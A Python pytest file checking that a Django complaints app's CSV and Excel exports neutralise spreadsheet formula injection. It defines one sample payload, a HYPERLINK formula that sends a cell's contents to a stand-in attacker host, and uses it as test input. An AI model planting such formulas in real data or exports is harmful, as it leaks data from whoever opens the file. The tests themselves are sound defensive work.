"""Formula injection (OWASP CSV injection): a complaint's text arrives in the officer's exports as text, never as
a live formula (issue #13, defect 2)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_cases_export_neutralises_every_formula_start(client, new_case, gov_users, start):
    new_case(description=start + "SUM(1,2)", anonymous=True, name="", phone="", email="")
    client.force_login(gov_users["officer"])
    text = client.get(reverse("governance:export_cases", args=["csv"])).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    column = rows[0].index("问题描述") if "问题描述" in rows[0] else None
    cells = [c for c in rows[1] if "SUM(1,2)" in c]
    assert cells == ["'" + start + "SUM(1,2)"], (column, rows[1])


def test_hyperlink_in_a_complaint_is_text_in_csv_and_excel(client, new_case, gov_users):
    new_case(description=EVIL, anonymous=True, name="", phone="", email="")
    client.force_login(gov_users["officer"])
    text = client.get(reverse("governance:export_cases", args=["csv"])).content.decode("utf-8-sig")
    assert "'" + EVIL in next(csv.reader(io.StringIO(text.splitlines()[1])))
    book = openpyxl.load_workbook(io.BytesIO(client.get(reverse("governance:export_cases", args=["xlsx"])).content))
    cells = [c for row in book.active.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].value == EVIL
